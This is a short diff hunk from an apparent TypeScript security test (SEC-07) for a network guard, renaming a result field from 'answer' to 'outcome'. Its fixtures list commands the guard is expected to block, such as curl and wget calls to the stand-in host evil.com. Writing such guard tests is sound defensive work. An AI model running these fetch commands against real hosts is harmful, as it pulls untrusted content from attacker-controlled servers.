@@ -80,7 +80,7 @@ test("SEC-07: addresses in commands that fetch them are checked too, nested ones
     config: { security: { blocked_commands: [] } },
   });
   const answer = async (text: string) =>
-    (await host.explain("sh", { text })).find(({ by }) => by === "guard-network")?.answer?.code ?? "allow";
+    (await host.explain("sh", { text })).find(({ by }) => by === "guard-network")?.outcome?.code ?? "allow";
   const no = [
     "curl http://evil.com/",
     "wget -q 'https://evil.com/x'",
